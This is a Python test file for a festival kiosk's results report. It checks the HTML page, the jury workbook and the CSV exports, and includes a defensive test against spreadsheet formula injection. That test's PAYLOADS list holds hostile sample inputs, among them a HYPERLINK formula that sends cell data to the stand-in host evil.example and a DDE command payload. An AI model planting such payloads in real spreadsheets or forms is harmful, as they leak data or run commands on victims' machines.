"""report.html, the jury workbook and the CSV files."""

from __future__ import annotations

import csv
import re
from pathlib import Path

from openpyxl import load_workbook

from kiosk.results.report.write import write_report


def test_report_is_offline_printable_and_indonesian_first(
    tmp_path: Path, demo_merged: Path
) -> None:
    write_report(demo_merged, tmp_path)
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert '<html lang="id">' in html
    assert "<script" not in html and not re.search(r"(src|href)=\"https?:", html)
    assert "@page { size: A4" in html and "@media print" in html
    assert html.count("<svg") >= 3
    assert "Peringkat pilihan pengunjung" in html and "People&#x27;s choice ranking" in html
    assert "Aturan seri" in html and "Tie rule" in html


def test_workbook_has_one_sheet_per_table_for_the_jury(tmp_path: Path, demo_merged: Path) -> None:
    write_report(demo_merged, tmp_path)
    book = load_workbook(tmp_path / "hasil-festival.xlsx", read_only=True)
    assert book.sheetnames == [
        "Peringkat",
        "Per OPD",
        "Per inovasi",
        "Komentar",
        "Anomali",
        "Tidak dihitung",
        "SKM",
        "SKM unsur",
        "SKM responden",
        "SKM saran",
        "Sumber",
    ]
    ranking = list(book["Peringkat"].iter_rows(values_only=True))
    assert ranking[0][:3] == (
        "Peringkat / Rank",
        "Kode inovasi / Innovation code",
        "Inovasi / Innovation",
    )
    assert ranking[1][0] == 1
    for sheet in book.worksheets:  # every header in words, none a bare column name
        names = [c.value for c in next(sheet.iter_rows(max_row=1))]
        assert all(
            " / " in str(n) or str(n).isupper() or str(n).startswith(("NRR", "No.")) for n in names
        ), (sheet.title, names)
    book.close()


def test_csv_files_match_the_ranking_table(tmp_path: Path, demo_merged: Path) -> None:
    import sqlite3

    write_report(demo_merged, tmp_path)
    with open(tmp_path / "ranking.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    conn = sqlite3.connect(demo_merged)
    expected = conn.execute(
        "SELECT innovation_slug, valid_votes FROM ranking ORDER BY rank"
    ).fetchall()
    assert [(r["innovation_slug"], int(r["valid_votes"])) for r in rows] == expected
    for name in ("agencies", "innovations", "comments", "anomalies", "excluded", "sources"):
        header = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()[0]
        assert header


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_no_cell_of_the_csv_files_or_the_workbook_runs_as_a_formula(tmp_path: Path) -> None:
    from kiosk.booth import Booth
    from kiosk.domain.clock import ManualClock
    from kiosk.results.collect import merge_kiosk_files
    from tests.helpers import make_booth_db
    from tests.results.kiosks import OPENING, visit

    db = make_booth_db(tmp_path / "booth.sqlite")
    booth = Booth(db, "DPUPR", ManualClock(OPENING))
    for payload in PAYLOADS:
        slug = booth.innovations[0].slug
        visit(booth, booth.clock, [slug], rating=2, comment=payload)  # type: ignore[arg-type]
    db.close()
    out = tmp_path / "festival.sqlite"
    merge_kiosk_files(out, [tmp_path / "booth.sqlite"], workers=1)
    report = tmp_path / "laporan"
    write_report(out, report)
    with open(report / "comments.csv", encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    for payload in PAYLOADS:  # (the booth strips a comment's surrounding whitespace)
        assert "'" + payload.strip() in cells  # shown as text, never run
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    workbook = load_workbook(report / "hasil-festival.xlsx")
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
